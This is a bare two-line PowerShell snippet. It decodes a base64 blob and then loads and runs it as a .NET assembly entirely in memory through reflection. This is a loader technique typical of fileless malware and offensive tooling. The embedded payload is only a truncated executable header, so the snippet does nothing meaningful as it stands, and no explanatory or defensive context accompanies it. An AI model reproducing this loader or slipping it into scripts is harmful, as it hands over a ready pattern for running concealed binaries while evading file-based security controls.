$b = [Convert]::FromBase64String("TVqQAAMAAAAEAAAA")
[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, $null)
